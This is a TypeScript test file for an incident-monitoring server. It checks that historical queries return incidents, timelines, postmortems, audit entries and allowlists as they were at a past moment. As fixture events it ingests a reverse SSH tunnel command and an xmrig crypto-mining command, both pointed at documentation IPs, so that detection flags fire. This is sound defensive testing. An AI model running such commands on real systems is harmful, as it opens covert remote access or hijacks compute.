// given an incident that goes on, when somebody looks back at a moment of it, then list, page, timeline, postmortem and the figures of Live are
// what they were then, though much has been done since.
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { z } from 'zod'
import { AuditBody, AuditPage } from './protocol/audit.ts'
import { AllowlistView } from './protocol/destination-view.ts'
import { IncidentDetail, IncidentList } from './protocol/incident.ts'
import { IncidentTimeline } from './protocol/incident-timeline.ts'
import { LiveFigures } from './protocol/live-view.ts'
import { Postmortem } from './protocol/postmortem.ts'
import { startForTest, type TestServer } from './start-for-test.ts'

const session = 'ep-back'
let server: TestServer
/** Between what was early and what came later; and what was shown live just before it. */
let then = 0
let before = 0
let shown: { list: z.infer<typeof IncidentList>; detail: IncidentDetail; timeline: IncidentTimeline }

const ask = async (pathname: string) => await (await server.api(pathname)).json()
const list = async (query = '') => IncidentList.parse(await ask(`/api/incidents?limit=100${query}`))
const detail = async (query = '') => IncidentDetail.parse(await ask(`/api/incidents/INC-1${query}`))
const timeline = async (query = '') => IncidentTimeline.parse(await ask(`/api/incidents/INC-1/timeline${query}`))
const act = async (call: string, input: string) => {
  const event = { v: 1, kind: 'action.started', atMs: Date.now(), session, data: { call, tool: 'shell', input } }
  expect((await server.api('/api/ingest/events', { method: 'POST', body: JSON.stringify(event) })).status).toBe(200)
}
const change = async (wish: object) => {
  const answer = await server.api('/api/incidents/INC-1/changes', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(wish),
  })
  expect(answer.status).toBe(200)
}
const untilFlags = (count: number) =>
  vi.waitFor(async () => expect((await list()).incidents[0]?.flagCount).toBe(count), { timeout: 30_000 })
async function momentNow(): Promise<number> {
  const atMs = Date.now()
  while (Date.now() <= atMs + 1) await new Promise((resolve) => setImmediate(resolve))
  return atMs
}

beforeAll(async () => {
  server = await startForTest()
  before = await momentNow()
  const start = { v: 1, kind: 'session.started', atMs: Date.now(), session, data: { held: 'none', abilities: [] } }
  await server.api('/api/ingest/events', { method: 'POST', body: JSON.stringify(start) })
  await act('c1', 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40')
  await untilFlags(1)
  await change({ type: 'acknowledge', forMinutes: 30 })
  await change({ type: 'write', section: 'causes', text: 'as we thought at first', basedOn: 0 })
  shown = { list: await list(), detail: await detail(), timeline: await timeline() }
  then = await momentNow()
  // when: much is done since
  await act('c2', 'xmrig -o stratum+tcp://203.0.113.50:3333 -u wallet')
  await untilFlags(3)
  await change({ type: 'retitle', title: 'A later title' })
  await change({ type: 'write', section: 'causes', text: 'as we know now', basedOn: 1 })
  await change({ type: 'resolve', verdict: 'true' })
}, 90_000)
afterAll(() => server.stop())

describe('an incident at a past moment', () => {
  it('is in the list and on its page exactly as it was shown live then', async () => {
    expect((await list()).incidents[0]).toMatchObject({ title: 'A later title', status: 'resolved', flagCount: 3 })
    const back = await list(`&at=${then}`)
    expect(back).toEqual({ atMs: then, incidents: shown.list.incidents })
    expect(back.incidents[0]).toMatchObject({ status: 'acknowledged', flagCount: 1 })
    expect(await detail(`?at=${then}`)).toEqual(shown.detail)
    expect((await list(`&at=${then}&state=resolved`)).incidents).toEqual([])
  })

  it('has a timeline that holds all that was known then and nothing that came later', async () => {
    const back = await timeline(`?at=${then}`)
    // What goes on had come as far as somebody looked.
    const ended = ({ items }: IncidentTimeline) => items.map(({ endAtMs: _end, endSeenAtMs: _seen, ...item }) => item)
    expect(ended(back)).toEqual(ended(shown.timeline))
    expect(back.toMs).toBe(then)
    expect(JSON.stringify(back)).not.toContain('xmrig')
    expect(JSON.stringify(await timeline())).toContain('xmrig')
    const csv = await (await server.api(`/api/incidents/INC-1/timeline.csv?at=${then}`)).text()
    expect(csv).toContain('ssh -fN')
    expect(csv).not.toContain('xmrig')
  })

  it('has the postmortem that people had written by then', async () => {
    const { written, incident } = Postmortem.parse(await ask(`/api/incidents/INC-1/postmortem?at=${then}`))
    expect(written).toMatchObject([{ section: 'causes', text: 'as we thought at first', version: 1 }])
    expect(incident.status).toBe('acknowledged')
    const text = await (await server.api(`/api/incidents/INC-1/postmortem.md?at=${then}`)).text()
    expect(text).not.toContain('A later title')
  })

  it('is not there before it formed, and a moment that has not come is refused', async () => {
    expect((await list(`&at=${before}`)).incidents).toEqual([])
    for (const page of ['', '/timeline', '/timeline.csv', '/postmortem', '/postmortem.md']) {
      expect((await server.api(`/api/incidents/INC-1${page}?at=${before}`)).status).toBe(404)
      expect((await server.api(`/api/incidents/INC-1${page}?at=${Date.now() + 60_000}`)).status).toBe(422)
      expect((await server.api(`/api/incidents/INC-1${page}?at=noon`)).status).toBe(422)
    }
  })
})

it('the audit and the allowlists end at that moment', async () => {
  const changes = async (query: string) => {
    const { entries } = AuditPage.parse(await ask(`/api/audit?limit=50${query}`))
    return entries
      .map(({ body }) => AuditBody.parse(JSON.parse(body)).kind)
      .filter((kind) => kind === 'incident.changed')
  }
  expect(await changes('')).toHaveLength(5)
  expect(await changes(`&at=${then}`)).toHaveLength(2)
  expect(await changes(`&at=${then}&after=0`)).toHaveLength(2)
  expect(AuditPage.parse(await ask(`/api/audit?at=${before - 86_400_000}`))).toMatchObject({
    entries: [],
    head: { n: 0 },
  })
  const entry = { base: 0, scope: 'all', name: '', to: '203.0.113.40', why: 'ours after all' }
  const allowed = await server.api('/api/egress/allowlists/entries', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(entry),
  })
  expect(allowed.status).toBe(201)
  expect(AllowlistView.parse(await ask('/api/egress/allowlists'))).toMatchObject({
    version: 1,
    entries: [{ to: entry.to }],
  })
  expect(AllowlistView.parse(await ask(`/api/egress/allowlists?at=${then}`))).toEqual({
    version: 0,
    entries: [],
    changes: [],
    lists: 'then',
  })
})

it('the figures of Live are of then, and say that no GPU was heard of where none was', async () => {
  const figures = LiveFigures.parse(await ask(`/api/live/figures?at=${then}`))
  expect(figures).toMatchObject({
    serverNowMs: then,
    gpus: { known: 0 },
    destinations: { fresh: 0, seen: 0, isReading: false },
  })
})
